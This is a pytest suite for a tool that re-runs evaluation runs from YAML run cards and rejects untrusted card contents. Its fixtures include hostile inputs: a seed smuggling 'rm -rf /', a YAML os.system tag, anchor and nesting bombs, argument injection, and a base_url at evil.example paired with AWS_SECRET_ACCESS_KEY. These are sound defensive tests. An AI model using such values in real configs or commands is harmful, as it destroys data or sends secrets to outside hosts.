"""`apr reproduce`: a real run repeated from its card; what differs is said; a card is untrusted."""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from stored_runs import stored

pytest.importorskip("yaml")
import yaml
from making import answered, look, trajectory

from apr_plugin.cli.reproduce import DIFFERENT, run_reproduce
from apr_plugin.errors import AprError
from apr_plugin.harnesses.lmms_eval import process
from apr_plugin.report.card_files import commands, to_yaml, write_cards
from apr_plugin.report.card_read import CardCommand, differences, read_card, scores
from apr_plugin.runs.opened import open_run
from apr_plugin.runs.scores import Evaluation


def _card(folder: Path, answer: str = "A", **more: Any) -> Path:
    made = [trajectory(n, [look(0, 50), answered("A")], "A") for n in range(3)]
    made.append(trajectory(3, [look(0, 50), answered(answer)], answer))
    return write_cards(stored(folder / "run", made, **more), folder / "card")[0]


def _edited(path: Path, change: Callable[[dict[str, Any]], object]) -> Path:
    data = yaml.safe_load(path.read_text())
    change(data)
    path.write_text(to_yaml(data))
    return path


@pytest.mark.slow
def test_a_real_run_is_repeated(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("lmms_eval")
    apr = [sys.executable, "-m", "apr_plugin.cli"]
    monkeypatch.setenv("APR_NEEDLE_DIR", str(tmp_path / "needle"))
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hub"))
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    make = ["needle", "make", "--out", str(tmp_path / "needle"), "--buckets", "1m", "--videos", "1", "--questions", "1"]
    evaluate = ["eval", "--tasks", "apr_needle_glyph,apr_needle_when", "--model_args", "policy=needle,max_turns=5",
                "--output_path", str(tmp_path / "out"), "--log_samples", "--limit", "1"]  # fmt: skip
    for words in (make, evaluate):
        subprocess.run([*apr, *words], check=True, capture_output=True)
    card = write_cards(open_run(tmp_path / "out"), tmp_path / "card")[0]
    assert run_reproduce(tmp_path / "card", out=tmp_path / "again") == 0
    told = capfd.readouterr().out
    assert f"--output_path={tmp_path / 'again'}" in told and "configuration: the same" in told
    assert "answers: the same to all 2 questions" in told and "Every score is identical" in told
    first, second = read_card(card), read_card(tmp_path / "again" / "card.yaml")
    assert first.data == second.data and first.prompt_hash == second.prompt_hash and len(first.tasks) == 2
    assert first.commands == second.commands and first.commands[0].limit == 1

    def other(data: dict[str, Any]) -> None:
        data["tasks"]["apr_needle_glyph"]["scores"]["score,none"] = 0.0
        data["answers"]["apr_needle_glyph"]["test/0/0"] = "</b>\x1b[2J"
        data["versions"]["av"] = "0.1"

    _edited(card, other)
    _plays(monkeypatch, tmp_path, f"import shutil; shutil.copytree({str(tmp_path / 'again')!r}, out)")
    assert run_reproduce(card, out=tmp_path / "third") == DIFFERENT
    captured = capfd.readouterr()
    assert "it was changed after it was written" in captured.err
    assert "release of av: 0.1 -> " in captured.out and "apr_needle_glyph: score,none: 0.0 -> 1.0" in captured.out
    assert "answers: 1 changed: apr_needle_glyph test/0/0" in captured.out and "\x1b" not in captured.out


def _plays(monkeypatch: pytest.MonkeyPatch, folder: Path, code: str, option: str = "--output_path=") -> None:
    """Have `apr eval` replaced by a program that leaves what a run left before, or ends otherwise."""
    program = folder / "plays"
    find = f"import sys; out = next(w.partition('=')[2] for w in sys.argv if w.startswith({option!r}))"
    program.write_text(f"#!{sys.executable}\n{find}\n{code}\n")
    program.chmod(0o755)
    monkeypatch.setattr(process.sys, "executable", str(program))


def test_a_dry_run_prints_the_command_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_reproduce(_card(tmp_path), out=tmp_path / "new", dry_run=True) == 0
    line = capsys.readouterr().out.strip()
    assert line == (
        f"apr eval --tasks apr_made --model_args=policy=guess,seed=0 --output_path={tmp_path / 'new'} --log_samples "
        "--seed=0,1234,1234,1234"
    )
    assert not (tmp_path / "new").exists()


def test_what_differs_is_said(tmp_path: Path) -> None:
    one, two = (
        read_card(_card(tmp_path / str(n), answer, scores={"score": score}))
        for n, (answer, score) in enumerate((("A", 0.5), ("B", 0.75)))
    )
    assert list(scores(one, one)) == [] and "answers: the same to all 4 questions that both have" in differences(
        one, one
    )
    told = list(differences(one, two))
    assert (
        "answers: 1 changed: apr_made test/3/0: 'A' -> 'B'" in told and told[-1] == "apr_made: score,none: 0.5 -> 0.75"
    )
    assert list(scores(one, two)) == told[-1:]


@pytest.mark.parametrize(
    ("code", "status"), [("sys.exit(1)", 1), ("sys.exit(2)", 2), ("import os; os.kill(os.getpid(), 9)", 1)]
)
def test_a_run_that_fails_gives_its_status(
    code: str, status: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    _plays(monkeypatch, tmp_path, code)
    assert run_reproduce(_card(tmp_path), out=tmp_path / "new") == status
    assert "nothing is compared" in capfd.readouterr().err


def test_a_stopped_run_is_given_time_to_end(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Ctrl-C reaches it, and it is not killed while it saves."""
    begun, saved = tmp_path / "begun", tmp_path / "saved"
    slow = f"""
import pathlib, time
try:
    pathlib.Path({str(begun)!r}).touch(); time.sleep(60)
except KeyboardInterrupt:
    time.sleep(1); pathlib.Path({str(saved)!r}).touch(); sys.exit(130)
"""
    _plays(monkeypatch, tmp_path, slow)

    def press() -> None:
        while not begun.exists():
            time.sleep(0.05)
        os.kill(os.getpid(), signal.SIGINT)

    threading.Thread(target=press, daemon=True).start()
    with pytest.raises(KeyboardInterrupt):
        process.evaluate(["--output_path=x"], tmp_path / "log")
    assert saved.exists()


def test_unanswered_questions_are_compared_and_keep_their_status(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    card = _card(tmp_path)
    _plays(monkeypatch, tmp_path, f"import shutil; shutil.copytree({str(tmp_path / 'run')!r}, out); sys.exit(3)")
    assert run_reproduce(card, out=tmp_path / "new") == 3


def test_a_folder_with_something_in_it_is_refused(tmp_path: Path) -> None:
    with pytest.raises(AprError, match="it is not empty"):
        run_reproduce(_card(tmp_path), out=tmp_path / "run")


@pytest.mark.parametrize(
    ("name", "value", "words"),
    [
        ("tasks", ["--include_path=x"], "no name of a task"), ("tasks", ["a,b"], "no name of a task"),
        ("tasks", [], "commands.0.tasks"),        ("tasks", ["../x"], "no name of a task"), ("model_args",
        "--model", "list of key=value"),
        ("model_args", "policy=guess,odd", "is not key=value"), ("model_args", "a=1,a=2", "given 2 times"),
        ("model_args", "policy=guess\nx=1", "list of key=value"), ("limit", float("inf"), "limit"),
        ("offset", -1, "offset"),        ("repeats", 0, "repeats"), ("seed", "0; rm -rf /", "seed must be numbers"),
        ("more", 1, "more"),
    ],
)  # fmt: skip
def test_values_that_a_command_may_not_have(name: str, value: Any, words: str, tmp_path: Path) -> None:
    card = _edited(_card(tmp_path), lambda data: data["commands"][0].update({name: value}))
    with pytest.raises(AprError, match=words):
        read_card(card)


def test_a_card_that_sends_data_elsewhere_must_be_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    args = "policy=openai,model=m,base_url=http://evil.example/v1,api_key_env=AWS_SECRET_ACCESS_KEY"
    card = _card(tmp_path, model_args=args)
    _plays(monkeypatch, tmp_path, "sys.exit(1)")
    with pytest.raises(AprError, match=r"api_key_env, base_url.*--trust"):
        run_reproduce(card, out=tmp_path / "new")
    assert run_reproduce(card, out=tmp_path / "new", trust=True) == 1


def test_a_card_of_a_task_folder_or_without_a_command_or_its_key(tmp_path: Path) -> None:
    card = _edited(_card(tmp_path), lambda data: data["commands"][0].update(own_tasks=True))
    with pytest.raises(AprError, match="--include-path DIR"):
        run_reproduce(card, out=tmp_path / "new")
    assert f"--include_path={tmp_path}" in CardCommand(tasks=["t"], model_args="policy=guess").arguments(
        tmp_path, tmp_path
    )
    with pytest.raises(AprError, match="names no command"):
        run_reproduce(_edited(card, lambda data: data.update(commands=[])), out=tmp_path / "new")
    secret = _card(tmp_path / "s", model_args="policy=openai,token=abc")
    with pytest.raises(AprError, match="a secret was left out"):
        run_reproduce(secret, out=tmp_path / "new")


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", "no apr.run-card file"), ("[1, 2]", "no apr.run-card file"), ("{", "cannot read this YAML"),
        ("schema: apr.run-card\nversion: 99", "newer than"), ("schema: apr.run-card\nversion: 1", "Field required"),
        ("schema: apr.run-card\nversion: one", "no apr.run-card file"), ("\x00", "cannot read this YAML"),
        ("!!python/object/apply:os.system [id]", "cannot read"),        ("a: &a [x]\nb: [*a, *a]", "YAML anchors"),
        ("[" * 60 + "]" * 60, "more than 40 lists"),
        ("- " * 100_000 + "x", "more than 40 lists"),
        ("schema: apr.run-card\nversion: 1\n2026-01-01: 2026-01-01", "a card does not have"),
    ],
    ids=range(12),
)  # fmt: skip
def test_files_that_are_no_card(text: str, words: str, tmp_path: Path) -> None:
    (tmp_path / "card.yaml").write_text(text)
    with pytest.raises(AprError, match=words):
        read_card(tmp_path / "card.yaml")


def test_other_files_are_refused(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "latin.yaml").write_bytes(b"schema: \xff\xfe")
    for name in ("none.yaml", "pipe", "latin.yaml", "."):
        with pytest.raises(AprError, match="cannot read this"):
            read_card(tmp_path / name)


def _of_vlmeval(**more: Any) -> dict[str, Any]:
    """An entry of `commands` in a card of a run under VLMEvalKit."""
    return {"tasks": ["Video-MME_agent"], "harness": "vlmeval", "model_args": "policy=guess", "limit": 4, "judge": None,
            "other_options": []} | more  # fmt: skip


def test_a_run_of_vlmevalkit_is_run_again_with_vlmevalkit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    asked = {"data": ["Video-MME_agent"], "model_args": "policy=guess", "limit": 4, "judge": None}
    options = {"apr_run": {}, "apr_vlmeval": asked | {"other_options": ["--api-mode"]}}
    config = {"harness": "ms-vlmeval 0.0.20", "resolved_cli_args": options}
    evaluation = Evaluation("20261127_120000", tmp_path, metrics={"Video-MME": {}})
    content = {"config": config, "configs": {"Video-MME": {}}}
    assert commands([(evaluation, content)]) == [_of_vlmeval(other_options=["--api-mode"])]
    del config["resolved_cli_args"]["apr_vlmeval"]
    assert commands([(evaluation, content)]) == [], "an earlier release did not keep the command"

    card = _edited(_card(tmp_path), lambda data: data.update(commands=[_of_vlmeval(other_options=["--api-mode"])]))
    assert run_reproduce(card, out=tmp_path / "new", dry_run=True) == 0
    told = capfd.readouterr()
    assert told.out.strip() == (
        f"apr vlmeval --data Video-MME_agent --model_args=policy=guess --work-dir={tmp_path / 'new'} --limit=4"
    )
    assert "further options" in told.err and "--api-mode" in told.err
    _plays(monkeypatch, tmp_path, "sys.exit(1)", option="--work-dir=")
    assert run_reproduce(card, out=tmp_path / "new") == 1
    assert "apr vlmeval ended with status 1" in capfd.readouterr().err


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ({"judge": "gpt-4o"}, "--trust"),
        ({"judge": "--config=x"}, "no name of a judge"),
        ({"tasks": ["--config"]}, "no name of a task"),
        ({"harness": "bash"}, "harness"),
        ({"model_args": "policy=openai,base_url=http://x/v1"}, "--trust"),
    ],
)
def test_a_card_of_vlmevalkit_is_untrusted_too(more: dict[str, Any], told: str, tmp_path: Path) -> None:
    card = _edited(_card(tmp_path), lambda data: data.update(commands=[_of_vlmeval(**more)]))
    with pytest.raises(AprError, match=told):
        run_reproduce(card, out=tmp_path / "new")
    assert not (tmp_path / "new").exists()
